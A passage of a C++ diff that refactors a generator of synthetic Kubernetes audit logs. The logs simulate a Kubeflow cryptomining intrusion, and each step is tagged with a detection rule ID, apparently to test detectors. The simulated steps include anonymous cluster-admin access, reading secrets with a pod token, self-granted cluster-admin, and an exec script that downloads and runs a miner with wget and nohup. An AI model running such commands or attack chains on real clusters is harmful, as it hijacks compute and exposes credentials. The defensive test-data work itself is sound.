                               {"sessionAffinity", "None"},
                               {"externalTrafficPolicy", "Cluster"}};
       response["status"] = json{{"loadBalancer", json::object()}};
-      Call call;
-      call.who = &admin_;
-      call.verb = "patch";
-      call.uri = "/api/v1/namespaces/" + svc_ns + "/services/" + svc + "?fieldManager=kubectl-patch";
-      call.resource = "services";
-      call.ns = svc_ns;
-      call.name = svc;
-      call.request = std::move(request);
-      call.response = std::move(response);
-      emit(call, t, c, 1, {"MG-AUD-008"});
+      emit(write_call(admin_, "patch", {.resource = "services", .ns = svc_ns, .name = svc}, std::move(request),
+                      std::move(response), "", "?fieldManager=kubectl-patch"),
+           t, c, 1, {"MG-AUD-008"});
     }
     // 2. Anonymous access that works.
     t += rng_.between(60 * kSecond, 180 * kSecond);
-    {
-      Call call;
-      call.who = anon;
-      call.verb = "list";
-      call.uri = "/api/v1/namespaces?limit=500";
-      call.resource = "namespaces";
-      call.reason = rbac_reason("ClusterRoleBinding", "kubeflow-anonymous", "cluster-admin", "User \"system:anonymous\"");
-      emit(call, t, c, 2, {"MG-AUD-009"});
-    }
+    emit(read_call(*anon, "list", {.resource = "namespaces"},
+                   rbac_reason("ClusterRoleBinding", "kubeflow-anonymous", "cluster-admin",
+                               user_subject(anon->username)),
+                   "?limit=500"),
+         t, c, 2, {"MG-AUD-009"});
     // 3. A notebook server with the miner image, on a GPU node, through the Jupyter web app.
     t += rng_.between(120 * kSecond, 300 * kSecond);
     json miner_pod = notebook_pod_spec(nb, std::string(kMinerImage), true, true);
-    {
-      json obj = notebook_object(nb, ns, "anonymous@kubeflow.org", miner_pod);
-      auto [req, resp] = created(std::move(obj), nb, ns, t);
-      resp["metadata"]["uid"] = notebook_uid;
-      Call call;
-      call.who = &jwa_;
-      call.verb = "create";
-      call.uri = "/apis/kubeflow.org/v1/namespaces/" + ns + "/notebooks";
-      call.resource = "notebooks";
-      call.ns = ns;
-      call.name = nb;
-      call.group = "kubeflow.org";
-      call.code = 201;
-      call.request = std::move(req);
-      call.response = std::move(resp);
-      call.reason = rbac_reason("ClusterRoleBinding", "jupyter-web-app-binding", "jupyter-web-app-cluster-role",
-                                "ServiceAccount \"jupyter-web-app-service-account/kubeflow\"");
-      emit(call, t, c, 3, {"MG-AUD-001", "MG-AUD-003", "MG-AUD-013"});
-    }
+    notebook_create(ns, nb, "anonymous@kubeflow.org", miner_pod, t, notebook_uid, c, 3,
+                    {"MG-AUD-001", "MG-AUD-003", "MG-AUD-013"});
     // 4. The notebook controller's StatefulSet for it.
     t += rng_.between(300 * kMs, 2 * kSecond);
     const std::string sts_uid =
         statefulset_create(notebook_controller_, ns, nb, notebook_uid, miner_pod, t, c, 4, {"MG-AUD-001", "MG-AUD-003"});
     // 5. Its pod, created by the statefulset controller.
     t += rng_.between(300 * kMs, 2 * kSecond);
-    const std::string pod_uid = pod_create(ss_controller_, ns, pod, false,
-               labels({{"app", nb},
-                       {"controller-revision-hash", nb + "-" + rng_.k8s_suffix(10)},
-                       {"notebook-name", nb},
-                       {"statefulset", nb},
-                       {"statefulset.kubernetes.io/pod-name", pod}}),
-               owner("apps/v1", "StatefulSet", nb, sts_uid), miner_pod, t, "system:controller:statefulset-controller",
-               "system:controller:statefulset-controller", c, 5, {"MG-AUD-001", "MG-AUD-003"});
+    const std::string pod_uid =
+        statefulset_pod_create(ns, nb, sts_uid, miner_pod, t, c, 5, {"MG-AUD-001", "MG-AUD-003"});
     // The pod's token, bound to it (pod-name and pod-uid in user.extra), is what the attacker uses.
     Actor editor = service_account(ns, "default-editor", "10.244.2." + std::to_string(10 + c),
                                    "kubectl/v1.21.0 (linux/amd64) kubernetes/cb303e6", pod);
     editor.extra["authentication.kubernetes.io/pod-uid"] = json::array({pod_uid});
     const Actor* editor_ptr = &chain_actors_.emplace_back(std::move(editor));
-    const std::string editor_reason = "RBAC: allowed by RoleBinding \"default-editor/" + ns +
-                                      "\" of ClusterRole \"kubeflow-edit\" to ServiceAccount \"default-editor/" + ns + "\"";
+    const std::string editor_reason =
+        rbac_reason("RoleBinding", "default-editor/" + ns, "kubeflow-edit", sa_subject(editor_ptr->username));
     // 6. From inside the pod, with its token: the namespace's secrets.
     t += rng_.between(180 * kSecond, 360 * kSecond);
-    {
-      Call call;
-      call.who = editor_ptr;
-      call.verb = "list";
-      call.uri = "/api/v1/namespaces/" + ns + "/secrets?limit=500";
-      call.resource = "secrets";
-      call.ns = ns;
-      call.reason = editor_reason;
-      emit(call, t, c, 6, {"MG-AUD-011"});
-    }
+    emit(read_call(*editor_ptr, "list", {.resource = "secrets", .ns = ns}, editor_reason, "?limit=500"), t, c, 6,
+         {"MG-AUD-011"});
     // 7. More miners: a Deployment whose command downloads and starts XMRig.
     t += rng_.between(60 * kSecond, 180 * kSecond);
     {
@@ -1298,20 +1198,10 @@ class Generator {
                        {"template", std::move(tmpl)},
                        {"strategy", json{{"type", "RollingUpdate"}}}};
       d["status"] = json::object();
-      auto [req, resp] = created(std::move(d), deploy, ns, t, json::object());
-      Call call;
-      call.who = editor_ptr;
-      call.verb = "create";
-      call.uri = "/apis/apps/v1/namespaces/" + ns + "/deployments?fieldManager=kubectl-create";
-      call.resource = "deployments";
-      call.ns = ns;
-      call.name = deploy;
-      call.group = "apps";
-      call.code = 201;
-      call.request = std::move(req);
-      call.response = std::move(resp);
-      call.reason = editor_reason;
-      emit(call, t, c, 7, {"MG-AUD-002", "MG-AUD-003", "MG-AUD-004", "MG-AUD-005", "MG-AUD-013"});
+      emit(create_call(*editor_ptr, {.resource = "deployments", .ns = ns, .name = deploy, .group = "apps"},
+                       created(std::move(d), deploy, ns, t, json::object()), editor_reason,
+                       "?fieldManager=kubectl-create"),
+           t, c, 7, {"MG-AUD-002", "MG-AUD-003", "MG-AUD-004", "MG-AUD-005", "MG-AUD-013"});
     }
     // 8. cluster-admin for itself.
     t += rng_.between(60 * kSecond, 180 * kSecond);
@@ -1323,19 +1213,10 @@ class Generator {
       obj["metadata"] = json{{"name", crb}, {"creationTimestamp", nullptr}};
       obj["subjects"] = json::array({json{{"kind", "ServiceAccount"}, {"name", "default-editor"}, {"namespace", ns}}});
       obj["roleRef"] = json{{"apiGroup", "rbac.authorization.k8s.io"}, {"kind", "ClusterRole"}, {"name", "cluster-admin"}};
-      auto [req, resp] = created(std::move(obj), crb, "", t);
-      Call call;
-      call.who = editor_ptr;
-      call.verb = "create";
-      call.uri = "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?fieldManager=kubectl-create";
-      call.resource = "clusterrolebindings";
-      call.name = crb;
-      call.group = "rbac.authorization.k8s.io";
-      call.code = 201;
-      call.request = std::move(req);
-      call.response = std::move(resp);
-      call.reason = editor_reason;
-      emit(call, t, c, 8, {"MG-AUD-010"});
+      emit(create_call(*editor_ptr,
+                       {.resource = "clusterrolebindings", .name = crb, .group = "rbac.authorization.k8s.io"},
+                       created(std::move(obj), crb, "", t), editor_reason, "?fieldManager=kubectl-create"),
+           t, c, 8, {"MG-AUD-010"});
     }
     // 9. An interactive shell in the notebook pod that starts the miner (kubectl exec, SPDY:
     // verb create, stage ResponseStarted, code 101; the query is encoded as kubectl encodes it).
@@ -1344,20 +1225,14 @@ class Generator {
       const std::string script = "cd /tmp && wget -q " + std::string(kMinerDownloadUrl) +
                                  " -O /tmp/x && chmod +x /tmp/x && nohup /tmp/x -o " + std::string(kPoolHost) +
                                  ":3333 -u " + std::string(kWallet) + " -k --tls >/dev/null 2>&1 &";
-      Call call;
-      call.who = editor_ptr;
-      call.verb = "create";
-      call.uri = "/api/v1/namespaces/" + ns + "/pods/" + pod + "/exec?command=sh&command=-c&command=" +
-                 query_escape(script) + "&container=" + nb + "&stdin=true&stdout=true&tty=true";
-      call.resource = "pods";
-      call.ns = ns;
-      call.name = pod;
-      call.sub = "exec";
-      call.code = 101;
-      call.stage = "ResponseStarted";
-      call.level = Level::request;  // a connect request has no body to log
-      call.reason = editor_reason;
-      emit(call, t, c, 9, {"MG-AUD-006", "MG-AUD-007"});
+      Call exec = create_call(*editor_ptr, {.resource = "pods", .ns = ns, .name = pod, .sub = "exec"}, {},
+                              editor_reason,
+                              "?command=sh&command=-c&command=" + query_escape(script) + "&container=" + nb +
+                                  "&stdin=true&stdout=true&tty=true");
+      exec.code = 101;
+      exec.stage = "ResponseStarted";
+      exec.level = Level::request;  // a connect request has no body to log
+      emit(exec, t, c, 9, {"MG-AUD-006", "MG-AUD-007"});
     }
   }
 
